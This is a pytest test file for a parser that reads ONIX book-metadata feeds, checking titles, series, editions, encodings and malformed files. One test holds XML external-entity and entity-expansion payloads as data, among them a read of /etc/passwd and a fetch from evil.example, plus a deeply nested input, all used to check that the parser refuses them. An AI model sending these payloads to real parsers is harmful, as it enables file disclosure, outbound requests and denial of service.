"""ONIX of both generations says the same; what is dangerous or broken is said."""

from __future__ import annotations

import pytest

from maneki.errors import InvalidInputError
from maneki.model.book import Isbn, SeriesPlace, Stock
from maneki.model.money import Money
from maneki.shop.lists.read import read_list

ONIX_3 = """<?xml version="1.0" encoding="UTF-8"?>
<ONIXMessage release="3.0" xmlns="http://ns.editeur.org/onix/3.0/reference">
 <Header><Sender><SenderName>Ace</SenderName></Sender></Header>
 <Product>
  <RecordReference>ace.1</RecordReference>
  <ProductIdentifier><ProductIDType>01</ProductIDType><IDValue>7</IDValue></ProductIdentifier>
  <ProductIdentifier><ProductIDType>15</ProductIDType><IDValue>9780441172719</IDValue></ProductIdentifier>
  <DescriptiveDetail>
   <ProductForm>BC</ProductForm>
   <Collection><TitleDetail><TitleType>01</TitleType><TitleElement>
     <PartNumber>1</PartNumber><TitleText>Dune Chronicles</TitleText></TitleElement></TitleDetail>
   </Collection>
   <TitleDetail><TitleType>01</TitleType><TitleElement><TitleElementLevel>01</TitleElementLevel>
     <TitlePrefix>The</TitlePrefix><TitleWithoutPrefix>Dune</TitleWithoutPrefix></TitleElement>
   </TitleDetail>
   <Contributor><ContributorRole>A01</ContributorRole>
     <PersonNameInverted>Herbert, Frank</PersonNameInverted></Contributor>
   <Contributor><ContributorRole>B06</ContributorRole><PersonName>A Translator</PersonName>
   </Contributor>
   <Language><LanguageRole>01</LanguageRole><LanguageCode>eng</LanguageCode></Language>
   <Extent><ExtentType>00</ExtentType><ExtentValue>535</ExtentValue></Extent>
   <Subject><SubjectHeadingText>Science Fiction</SubjectHeadingText></Subject>
  </DescriptiveDetail>
  <CollateralDetail><TextContent><Text>&lt;p&gt;Sand &amp;amp; spice.&lt;/p&gt;</Text>
  </TextContent></CollateralDetail>
  <PublishingDetail><Publisher><PublisherName>Ace</PublisherName></Publisher>
   <CountryOfPublication>US</CountryOfPublication>
   <PublishingDate><PublishingDateRole>01</PublishingDateRole><Date>19900901</Date>
   </PublishingDate></PublishingDetail>
  <ProductSupply><SupplyDetail><Stock><OnHand>3</OnHand></Stock>
   <Price><PriceAmount>9.99</PriceAmount><CurrencyCode>USD</CurrencyCode></Price></SupplyDetail>
  </ProductSupply>
 </Product>
 <Product>
  <RecordReference>ace.2</RecordReference>
 </Product>
</ONIXMessage>
"""
ONIX_2 = """<?xml version="1.0"?>
<!DOCTYPE ONIXMessage SYSTEM "http://www.editeur.org/onix/2.1/short/onix-international.dtd">
<ONIXmessage>
<product><a001>1</a001><productidentifier><b221>02</b221><b244>0441172717</b244></productidentifier>
<title><b202>01</b202><b203>Dune &mdash; Messiah</b203></title>
<contributor><b035>A01</b035><b036>Frank Herbert</b036></contributor>
<series><b018>Dune</b018><b019>2</b019></series><b061>256</b061><b003>1969</b003>
</product></ONIXmessage>
"""


def test_a_product_is_a_work_with_an_edition() -> None:
    found = read_list(ONIX_3.encode())
    [book] = found.books
    [edition] = book.editions
    assert (book.title, book.authors) == ("The Dune", ("Frank Herbert",))
    assert book.series == (SeriesPlace("Dune Chronicles", "1"),)
    assert (book.subjects, book.description) == (("Science Fiction",), "Sand & spice.")
    assert edition.isbn == Isbn("9780441172719")
    assert (edition.format, edition.pages, edition.publisher) == ("Paperback", 535, "Ace")
    assert (edition.language, edition.country, edition.published) == ("en", "US", "1990-09-01")
    assert edition.stock == Stock(quantity=3, price=Money(999, "USD"))


def test_a_product_without_title_is_named_with_its_line() -> None:
    [fault] = read_list(ONIX_3.encode()).faults
    line = 1 + ONIX_3[: ONIX_3.rindex("<Product>")].count("\n")
    assert (fault.line, fault.said) == (line, "has no title.")


def test_the_older_form_with_short_tags_and_its_entities_is_read_too() -> None:
    [book] = read_list(ONIX_2.encode()).books
    assert (book.title, book.authors) == ("Dune — Messiah", ("Frank Herbert",))
    assert book.series == (SeriesPlace("Dune", "2"),)
    assert book.editions[0].isbn == Isbn("9780441172719")
    assert (book.editions[0].pages, book.editions[0].published) == (256, "1969")


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "latin-1"])
def test_the_declared_encoding_is_kept_to(encoding: str) -> None:
    name = "utf-8" if encoding == "utf-8-sig" else encoding
    text = f"<?xml version='1.0' encoding='{name}'?><ONIXMessage><Product><Title><TitleText>Café"
    text += "</TitleText></Title></Product></ONIXMessage>"
    assert read_list(text.encode(encoding)).books[0].title == "Café"


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
    ],
)
def test_declared_entities_are_refused(declared: str) -> None:
    text = f"<!DOCTYPE ONIXMessage [{declared}]><ONIXMessage><Product><a>&b;</a></Product>"
    with pytest.raises(InvalidInputError, match="declares an entity"):
        read_list(f"{text}</ONIXMessage>".encode())


def test_a_file_that_breaks_off_is_read_up_to_there() -> None:
    second = "<Product><Title><TitleText>Lost"
    found = read_list(ONIX_2.replace("</ONIXmessage>", second).encode())
    assert [book.title for book in found.books] == ["Dune — Messiah"]
    [fault] = found.faults
    assert "no XML from here on" in fault.said


def test_xml_of_another_kind_and_bottomless_nesting_are_one_sentence() -> None:
    with pytest.raises(InvalidInputError, match="without a <Product>"):
        read_list(b"<rss><channel/></rss>")
    with pytest.raises(InvalidInputError, match="nested deeper"):
        read_list(b"<Product>" + b"<a>" * 100_000)


@pytest.mark.parametrize("encoding", ["Shift_JIS", "EUC-JP", "windows-1252"])
def test_an_encoding_that_the_parser_does_not_know_is_read_all_the_same(encoding: str) -> None:
    title = "Café" if encoding == "windows-1252" else "こころ"
    text = f"<?xml version='1.0' encoding='{encoding}'?><ONIXMessage><Product><Title><TitleText>"
    text += f"{title}</TitleText></Title></Product></ONIXMessage>"
    assert read_list(text.encode(encoding)).books[0].title == title


def test_an_encoding_that_nobody_knows_is_one_sentence() -> None:
    with pytest.raises(InvalidInputError, match="klingon"):
        read_list(b'<?xml version="1.0" encoding="klingon"?><ONIXMessage><Product/></ONIXMessage>')
